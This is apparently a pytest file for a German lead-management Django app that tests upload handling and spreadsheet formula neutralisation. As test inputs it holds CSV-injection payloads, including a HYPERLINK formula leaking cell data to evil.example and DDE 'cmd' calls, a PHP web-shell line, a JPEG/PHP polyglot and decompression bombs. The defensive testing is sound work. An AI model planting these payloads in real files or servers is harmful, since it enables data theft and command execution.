"""Files in and out: what tests/test_leads_uploads.py and tests/test_import_leads.py do not
cover yet.

- business cards: a real decompression bomb at the default limits, SVG, a JPEG/PHP polyglot,
  a 30 MB upload through the mask, and how a stored card is served;
- imports: formulas stay text, UTF-8 with/without BOM and Windows-1252 with quoted
  semicolons and line breaks, NUL bytes, a binary file named .csv, an XLSX formula cell;
- exports (lead CSV/XLSX, dashboard CSV, import error report): no cell starts with
  = + - @ tab CR NUL.
"""

import csv
import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from PIL import Image

from capture.imports import files as import_files
from capture.imports import run as import_runner
from contacts.models import LeadStatus, Phase
from leads.models import DuplicateMode, Lead
from leads.services import uploads
from tests.factories import LeadFactory
from ui.spreadsheet import neutralise

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+49 30 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --------------------------------------------------------------------------- images


def _png(size) -> bytes:
    out = io.BytesIO()
    Image.new("1", size).save(out, "PNG", optimize=True)
    return out.getvalue()


def _upload(content, name="karte.png", ctype="image/png"):
    return SimpleUploadedFile(name, content, content_type=ctype)


def test_decompression_bomb_at_default_limits_is_refused():
    bomb = _png((20_000, 20_000))  # 400 megapixels, a few kB on disk
    assert len(bomb) < 200_000
    with pytest.raises(ValidationError, match="zu groß"):
        uploads.process_image(_upload(bomb))


def test_png_header_with_huge_declared_size_is_refused():
    """A hand-made IHDR claiming 100,000 × 100,000 pixels with almost no data."""
    import struct

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 100))
    data += chunk(b"IEND", b"")
    with pytest.raises(ValidationError):
        uploads.process_image(_upload(data))


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "k.svg"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "k.png"),
        (b"<?php system($_GET['c']); ?>", "k.php.png"),
        (b"MZ\x90\x00" + b"\x00" * 100, "k.exe"),
    ],
)
def test_svg_php_and_executables_are_refused(content, name):
    with pytest.raises(ValidationError):
        uploads.process_image(_upload(content, name))


def test_jpeg_php_polyglot_is_reencoded_without_the_payload():
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (0, 90, 200)).save(out, "JPEG")
    jpeg = out.getvalue()
    # a COM segment with PHP right after SOI, and trailing HTML after EOI
    comment = b"<?php echo shell_exec($_GET['c']); ?>"
    polyglot = jpeg[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + jpeg[2:]
    polyglot += b"<html><script>alert(1)</script></html>"
    processed = uploads.process_image(_upload(polyglot, "k.jpg", "image/jpeg"))
    assert b"<?php" not in processed.content and b"<script" not in processed.content
    assert b"<?php" not in processed.thumbnail


def test_30_mb_upload_through_the_mask_is_refused(rep, rep_client):
    from tests.leads.test_leads_mask import _form_data

    lead = LeadFactory(follow_up_by=rep)
    data = _form_data(lead=lead) if "lead" in _form_data.__code__.co_varnames else _form_data()
    data["business_card"] = SimpleUploadedFile(
        "gross.png", b"\x89PNG\r\n\x1a\n" + b"\0" * (30 * 2**20), content_type="image/png"
    )
    before = Lead.objects.count()
    response = rep_client.post(reverse("leads:create"), data)
    assert response.status_code in (200, 400, 413)
    assert Lead.objects.count() == before


def test_stored_card_is_served_as_image_attachment_safe(rep, rep_client):
    from django.core.files.base import ContentFile

    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG")
    lead = LeadFactory(follow_up_by=rep)
    lead.business_card.save("karte.png", ContentFile(out.getvalue()), save=True)
    response = rep_client.get(reverse("leads:business_card", args=[lead.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("image/")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content).startswith(b"\x89PNG")


# --------------------------------------------------------------------------- imports


HEADER = ["Firma", "Nachname", "E-Mail", "Ort", "Notiz"]


def _csv(rows, *, encoding="utf-8", delimiter=";", bom=False) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(HEADER)
    writer.writerows(rows)
    data = out.getvalue().encode(encoding)
    return (b"\xef\xbb\xbf" + data) if bom else data


def _import(user, content, name="liste.csv"):
    lead_import = import_files.import_upload(upload=SimpleUploadedFile(name, content), user=user)
    lead_import.mapping = lead_import.mapping or {}
    lead_import.duplicate_mode = DuplicateMode.CREATE
    lead_import.save()
    return lead_import


@pytest.mark.parametrize(
    ("encoding", "bom"), [("utf-8", True), ("utf-8", False), ("cp1252", False)]
)
def test_import_quoted_semicolons_line_breaks_and_umlauts(marketing, encoding, bom):
    rows = [
        ["Weiß; Söhne GmbH", "Jäger", "jaeger@weiss-soehne.de", "Köln", "Zeile 1\nZeile 2 – €"],
    ]
    lead_import = _import(marketing, _csv(rows, encoding=encoding, bom=bom))
    assert lead_import.delimiter == ";"
    assert lead_import.headers == HEADER
    import_runner.import_run(lead_import=lead_import)
    lead = Lead.objects.get(email="jaeger@weiss-soehne.de")
    assert lead.company_name == "Weiß; Söhne GmbH"
    assert lead.last_name == "Jäger" and lead.city == "Köln"


def test_import_keeps_formulas_as_text(marketing):
    rows = [[PAYLOADS[0], "Formel", "formel@example.de", "=1+1", "@SUM(A1)"]]
    lead_import = _import(marketing, _csv(rows, bom=True))
    import_runner.import_run(lead_import=lead_import)
    lead = Lead.objects.get(email="formel@example.de")
    assert lead.company_name == PAYLOADS[0]  # stored as the user typed it ...
    assert lead.city == "=1+1"  # ... and neutralised on the way out (see exports below)


def test_import_with_nul_bytes_does_not_crash(marketing):
    content = _csv([["Nul\0Firma", "Null", "nul@example.de", "Berlin", "a\0b"]])
    try:
        lead_import = _import(marketing, content)
    except import_files.ImportFileError as error:
        assert str(error)  # refused with a message
        return
    import_runner.import_run(lead_import=lead_import)
    for lead in Lead.objects.all():
        assert "\0" not in lead.company_name + lead.notes


@pytest.mark.parametrize(
    "content",
    [b"\x00\x01\x02\xff\xfe" * 200, b"PK\x03\x04broken zip", "ä;ö\n".encode("utf-16")],
)
def test_binary_or_broken_files_are_refused_with_a_message(marketing, content):
    name = "liste.xlsx" if content.startswith(b"PK") else "liste.csv"
    try:
        lead_import = _import(marketing, content, name=name)
    except import_files.ImportFileError as error:
        assert str(error)
        return
    # accepted as text: then it must at least run without a crash
    import_runner.import_run(lead_import=lead_import)


def test_xlsx_formula_cell_is_imported_as_text_not_evaluated(marketing):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(["=1+1", "Zelle", "zelle@example.de", "Berlin", '=HYPERLINK("http://x")'])
    out = io.BytesIO()
    book.save(out)
    lead_import = _import(marketing, out.getvalue(), name="liste.xlsx")
    import_runner.import_run(lead_import=lead_import)
    lead = Lead.objects.get(email="zelle@example.de")
    assert lead.company_name in ("=1+1", "")  # the formula text, never a computed value "2"


# --------------------------------------------------------------------------- exports


@pytest.mark.parametrize("value", [*PAYLOADS, "\0=1+1"])
def test_neutralise(value):
    """The one neutraliser (ui.spreadsheet) that export, dashboard CSV and error report use."""
    assert not str(neutralise(value)).startswith(DANGEROUS), value
    assert str(neutralise(value)).endswith(value)


def test_neutralise_keeps_numbers_and_empties():
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5 and neutralise(None) == ""
    assert neutralise(True) == "True"


@pytest.fixture
def formula_leads(rep):
    return [
        LeadFactory(
            company_name=payload,
            first_name=payload[:30],
            city=payload[:60],
            follow_up_by=rep,
        )
        for payload in PAYLOADS
    ]


def _assert_safe(cells):
    bad = [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS)]
    assert not bad, bad


def test_lead_csv_export_neutralises(manager_client, formula_leads):
    response = manager_client.get(reverse("leads:export"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert len(rows) == len(PAYLOADS) + 1
    _assert_safe([cell for row in rows for cell in row])


def test_lead_xlsx_export_neutralises(manager_client, formula_leads):
    response = manager_client.get(reverse("leads:export") + "?format=xlsx")
    book = load_workbook(io.BytesIO(response.content))
    cells = [c.value for row in book.active.iter_rows() for c in row]
    assert any(isinstance(c, str) and "HYPERLINK" in c for c in cells)
    _assert_safe(cells)
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_dashboard_csv_neutralises_names(manager_client, manager):
    status = LeadStatus.objects.create(name="=cmd|' /C calc'!A0", phase=Phase.OPEN, rank=99)
    LeadFactory(status=status, follow_up_by=manager)
    for key in ("status_source", "funnel"):
        response = manager_client.get(reverse("boards:dashboard_csv", args=[key]))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        _assert_safe([cell for row in rows for cell in row])


def test_import_error_report_neutralises_all_prefixes(marketing):
    rows = [[p, "", "kaputt", "", p] for p in [*PAYLOADS]]
    lead_import = _import(marketing, _csv(rows))
    import_runner.import_run(lead_import=lead_import)
    report = import_runner.error_report_csv(lead_import).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(report), delimiter=";") for cell in row]
    assert len(cells) > len(HEADER)
    _assert_safe(cells)
